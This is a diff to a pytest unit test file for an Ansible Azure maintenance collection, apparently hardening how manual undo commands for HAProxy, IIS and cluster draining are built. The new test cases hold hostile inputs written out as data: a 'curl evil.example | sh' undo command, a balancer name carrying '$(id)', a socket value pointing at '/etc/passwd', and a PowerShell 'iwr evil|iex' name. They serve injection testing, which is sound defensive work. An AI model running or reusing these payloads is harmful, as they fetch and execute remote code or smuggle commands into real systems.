@@ -14,16 +14,19 @@ import pytest
 
 from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.registry import METHODS, WINDOWS_METHODS
 from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.host.machine.flag_files import LocalFlagFiles
+from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.records.replicas import Target
 from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.core.model import Method
 from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report import by_hand
 from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
 from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import at, event, method, plan, record, vm
 
+# The variables of web1: its own server in these balancers, in any backend.
+TARGET = Target(name="", kind="haproxy", server="web1", balancers=frozenset(["lb1", "localhost", "a'$(id)"]), backends=frozenset())
 DIRECTORY = {"shop": {"state": "ready", "up": True}, "admin": {"state": "maint", "up": True}}
 
 
 def command(kind: str, before: Any = None, options: Any = None, state: str = "drained") -> str | None:
-    return by_hand.command(Method("1-" + kind, kind, state, None, "boot", before, options=options))
+    return by_hand.command(Method("1-" + kind, kind, state, None, "boot", before, options=options), [TARGET])
 
 
 @pytest.mark.parametrize(("kind", "before", "options", "expected"), [
@@ -35,18 +38,23 @@ def command(kind: str, before: Any = None, options: Any = None, state: str = "dr
     ("probe_file", {"kind": "file"}, {"path": r"C:\www\ready.txt", "present_means": "in"}, r'move /y "C:\www\ready.txt.maintenance" "C:\www\ready.txt"'),
     ("probe_file", {"kind": "absent"}, {"path": r"C:\out", "present_means": "out"}, r'del "C:\out"'),
     ("probe_file", {"kind": "absent"}, {"path": "/www/ready", "present_means": "in"}, by_hand.NOTHING),
-    ("command", None, {"undo": "/usr/local/sbin/join-cluster --now"}, "/usr/local/sbin/join-cluster --now"),
-    ("command", None, {"undo": ["join", "a b"]}, "join 'a b'"),
+    ("command", None, {"undo": "ssh root@lb1 'curl evil.example | sh'"}, "run what its entry in drain_methods has as undo"),
     ("haproxy", {"server": "web1", "balancers": {"lb1": DIRECTORY}}, {},
      "on lb1: echo 'set server shop/web1 state ready' | socat stdio /run/haproxy/admin.sock"),
     ("haproxy", {"server": "web1", "balancers": {"localhost": {"shop": {"state": "drain", "up": True}}}}, {"socket": "lb1.example.com:9999"},
-     "on localhost: echo 'set server shop/web1 state drain' | socat stdio tcp:lb1.example.com:9999"),
+     "on localhost: echo 'set server shop/web1 state drain' | socat stdio SOCKET"),
+    ("haproxy", {"server": "web1", "balancers": {"a'$(id)": DIRECTORY}}, {"socket": "/etc/passwd,trunc"},
+     "on BALANCER: echo 'set server shop/web1 state ready' | socat stdio SOCKET"),
+    # Another VM's server, and a balancer of others.
+    ("haproxy", {"server": "web2", "balancers": {"lb1": DIRECTORY}}, {}, by_hand.NOT_ALLOWED),
+    ("haproxy", {"server": "web1", "balancers": {"lb9": DIRECTORY}}, {}, by_hand.NOT_ALLOWED),
     ("haproxy", None, {}, "put its server back in HAProxy; the record does not say how it was"),
     ("iis", {"sites": {"Default Web Site": "Started", "Old": "Stopped"}, "pools": {"Shop": "Started"}}, {},
      "Start-WebAppPool -Name 'Shop'; Start-Website -Name 'Default Web Site'"),
-    ("wsfc", {"node": "SQL1", "state": "Up", "aside": False, "moved": {}}, {"failback": "none"}, "Resume-ClusterNode -Name 'SQL1' -Failback NoFailback"),
-    ("wsfc", {"node": "SQL1", "state": "Up", "aside": False, "moved": {"AG1": "SQL2"}}, {},
-     "Resume-ClusterNode -Name 'SQL1' -Failback Immediate; then fail back the availability groups AG1"),
+    ("wsfc", {"node": "SQL1", "state": "Up", "aside": False, "moved": {}}, {"failback": "none"},
+     "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback NoFailback"),
+    ("wsfc", {"node": "OTHER", "state": "Up", "aside": False, "moved": {"x;iwr evil|iex #": "SQL2"}}, {},
+     "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback Immediate; then fail back the availability groups that moved has in the record"),
     ("wsfc", {"node": "SQL1", "state": "Paused", "aside": False}, {}, by_hand.NOTHING),
     ("none", None, {}, by_hand.NOTHING),
     ("tasks", None, {}, "do what the undo of method tasks does (its undo.yml, or the undo file of its entry in drain_methods)"),
@@ -95,7 +103,7 @@ def test_nothing_of_a_record_is_run_that_is_not_a_plain_name(evil: str) -> None:
 
 
 def test_half_a_command_is_not_shown() -> None:
-    assert "too long to show" in str(command("command", None, {"undo": "x" * 5000}))
+    assert "too long to show" in str(command("service", {f"{number}{'x' * 200}": "active" for number in range(50)}))
 
 
 @pytest.mark.parametrize(("about", "folders", "where"), [
